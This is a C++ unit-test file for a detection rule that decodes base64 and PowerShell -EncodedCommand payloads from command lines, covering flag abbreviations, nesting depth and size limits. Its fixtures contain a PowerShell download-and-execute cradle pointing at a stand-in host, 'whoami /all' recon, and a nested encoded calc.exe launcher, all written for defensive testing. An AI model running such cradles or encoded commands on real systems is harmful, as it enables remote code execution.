#include "rules/base64_decode.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "base/base64.h"
#include "rules/sigma_encoding.h"

namespace picket::rules {
namespace {

std::string encoded(const std::string& script) {
  return to_base64(utf16_bytes(script, ByteOrder::kLittle));
}

TEST(Base64Decode, EveryAbbreviationOfEncodedCommand) {
  const std::string name = "-EncodedCommand";
  std::vector<std::string> flags = {
      "-ec", "-EC",  "/enc", "/e", "\u2013enc", "\u2015e", "-eNcOd", "--enc", "-encodedarguments",
      "-ea", "-enc:"};
  for (std::size_t length = 2; length <= name.size(); ++length)
    flags.push_back(name.substr(0, length));
  for (const std::string& flag : flags) {
    for (const std::string quote : {"", "\"", "'"}) {
      const std::string line =
          "powershell.exe -nop  " + flag + " \t" + quote + encoded("whoami /all") + quote + " -x";
      const std::vector<Base64Payload> found = decode_base64_payloads(line);
      ASSERT_EQ(found.size(), 1u) << line;
      EXPECT_EQ(found[0].text, "whoami /all");
      EXPECT_TRUE(found[0].encoded_command);
      EXPECT_EQ(line.substr(found[0].begin, found[0].end - found[0].begin), encoded("whoami /all"));
    }
  }
}

TEST(Base64Decode, ShortAndUnpaddedCommands) {
  EXPECT_EQ(decode_base64_payloads("powershell -e bABzAA==").at(0).text, "ls");
  EXPECT_EQ(decode_base64_payloads("powershell -e bABzAA").at(0).text, "ls");
  const std::string unicode = "Write-Host 'đã xong' \U0001F600";
  EXPECT_EQ(decode_base64_payloads("pwsh -enc " + encoded(unicode)).at(0).text, unicode);
}

TEST(Base64Decode, OrdinaryArgumentsAreNotPayloads) {
  for (const char* line :
       {"grep -e pattern file", "perl -e print123", "sed -e s/aaaa/bbbb/ x", "curl -E certificate",
        "powershell -enc", "powershell -ExecutionPolicy Bypass", "",
        "java -cp /usr/lib/jvm/default/java/lib/security/cacerts/and/so/on/and/so/forth Main",
        "tool --hash 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"}) {
    EXPECT_TRUE(decode_base64_payloads(line).empty()) << line;
  }
}

TEST(Base64Decode, LongRunsAnywhere) {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://h/x')";
  const std::string line = "[Convert]::FromBase64String(\"" + to_base64(script) + "\")";
  const std::vector<Base64Payload> found = decode_base64_payloads(line);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].text, script);
  EXPECT_FALSE(found[0].encoded_command);
  EXPECT_EQ(decode_base64_payloads("x='" + encoded(script) + "'").at(0).text, script);
  const std::string program = "MZ" + std::string(60, '\x90');
  EXPECT_EQ(decode_base64_payloads(to_base64(program)).at(0).text, program);
}

TEST(Base64Decode, NestedPayloadsAreFoundAndBounded) {
  std::string script = "calc.exe";
  for (int i = 0; i < 6; ++i) script = "powershell -enc " + encoded(script);
  const std::vector<Base64Payload> found = decode_base64_payloads(script);
  ASSERT_EQ(found.size(), 3u);
  EXPECT_EQ(found[2].depth, 3u);
  EXPECT_EQ(found[2].begin, found[0].begin);

  std::string many;
  for (int i = 0; i < 100; ++i) many += "-e bABzAA== ";
  EXPECT_EQ(decode_base64_payloads(many).size(), 16u);
  const std::string large = to_base64(std::string(10'000, 'a'));
  EXPECT_TRUE(decode_base64_payloads(large, {.decoded_bytes_max = 1'000}).empty());
  EXPECT_EQ(decode_base64_payloads(std::string(3'000'000, 'A')).size(), 0u);
}

TEST(Base64Decode, Utf16) {
  EXPECT_EQ(utf8_of_utf16le(std::string("\xFF\xFE"
                                        "a\0",
                                        4)),
            "a");
  EXPECT_EQ(utf8_of_utf16le("\x3D\xD8"), "\uFFFD");
  EXPECT_EQ(utf8_of_utf16le("a"), "");
}

}  // namespace
}  // namespace picket::rules
